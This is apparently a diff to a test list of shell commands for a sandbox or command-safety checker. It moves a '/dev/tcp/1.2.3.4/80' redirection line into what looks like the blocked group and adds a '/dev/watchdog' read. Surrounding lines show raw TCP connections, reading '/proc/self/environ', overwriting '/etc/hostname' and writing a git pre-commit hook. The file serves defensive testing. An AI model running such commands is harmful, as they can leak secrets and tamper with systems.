@@ -131,7 +131,6 @@ echo <(rm x)
 git status
 git stash push
 git -c core.pager=x log
-x=/dev/tcp/1.2.3.4/80; cat < $x
 getent hosts secret.example.com
 lspci -q
 env A=b ls
@@ -200,6 +199,8 @@ cat /proc/self/environ
 ls | (
 echo x > /dev/tcp/1.2.3.4/80
 cat < /dev/tcp/1.2.3.4/80
+x=/dev/tcp/1.2.3.4/80; cat < $x
+cat /dev/watchdog
 echo x > /etc/hostname
 cp a /usr/local/bin/b
 echo x > .git/hooks/pre-commit
